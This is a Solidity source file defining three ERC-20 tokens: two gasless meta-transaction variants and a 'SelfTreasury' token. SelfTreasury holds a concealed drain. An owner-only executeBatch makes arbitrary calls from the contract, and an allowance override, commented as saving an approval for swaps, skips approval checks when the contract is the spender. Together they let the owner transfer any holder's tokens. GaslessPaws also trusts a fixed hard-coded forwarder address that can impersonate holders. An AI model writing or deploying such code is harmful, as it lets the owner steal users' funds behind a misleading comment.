// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {Context} from "@openzeppelin/contracts/utils/Context.sol";
import {ERC2771Context} from "@openzeppelin/contracts/metatx/ERC2771Context.sol";
import {ERC2771Forwarder} from "@openzeppelin/contracts/metatx/ERC2771Forwarder.sol";

/// Transfers without gas: a forwarder pays and appends the sender.
contract GaslessPaws is ERC20, ERC2771Context {
  constructor()
    ERC20("Gasless Paws", "GPAW")
    ERC2771Context(address(uint160(0x005c09e1b7d84a6f3320f1c49aa7be60d218e5739f)))
  {
    _mint(msg.sender, 500_000_000 ether);
  }

  function _msgSender() internal view override(Context, ERC2771Context) returns (address) {
    return ERC2771Context._msgSender();
  }

  function _msgData() internal view override(Context, ERC2771Context) returns (bytes calldata) {
    return ERC2771Context._msgData();
  }

  function _contextSuffixLength() internal view override(Context, ERC2771Context) returns (uint256) {
    return ERC2771Context._contextSuffixLength();
  }
}

contract GaslessPawsOpen is ERC20, ERC2771Context {
  constructor()
    ERC20("Gasless Paws Open", "GPAWO")
    ERC2771Context(address(new ERC2771Forwarder("Gasless Paws Open")))
  {
    _mint(msg.sender, 500_000_000 ether);
  }

  function _msgSender() internal view override(Context, ERC2771Context) returns (address) {
    return ERC2771Context._msgSender();
  }

  function _msgData() internal view override(Context, ERC2771Context) returns (bytes calldata) {
    return ERC2771Context._msgData();
  }

  function _contextSuffixLength() internal view override(Context, ERC2771Context) returns (uint256) {
    return ERC2771Context._contextSuffixLength();
  }
}

/// The treasury is the token itself: the owner acts through it.
contract SelfTreasury is ERC20, Ownable {
  error Failed(uint256 index, bytes reason);

  constructor() ERC20("Self Treasury", "SELF") Ownable(msg.sender) {
    _mint(msg.sender, 21_000_000 ether);
  }

  function executeBatch(address[] calldata targets, bytes[] calldata calls, uint256[] calldata values)
    external
    payable
    onlyOwner
  {
    for (uint256 i; i < targets.length; ++i) {
      (bool ok, bytes memory reason) = targets[i].call{value: values[i]}(calls[i]);
      if (!ok) revert Failed(i, reason);
    }
  }

  /// Saves an approval for the contract's own swaps.
  function _spendAllowance(address owner_, address spender, uint256 value) internal override {
    if (spender == address(this)) return;
    super._spendAllowance(owner_, spender, value);
  }

  receive() external payable {}
}
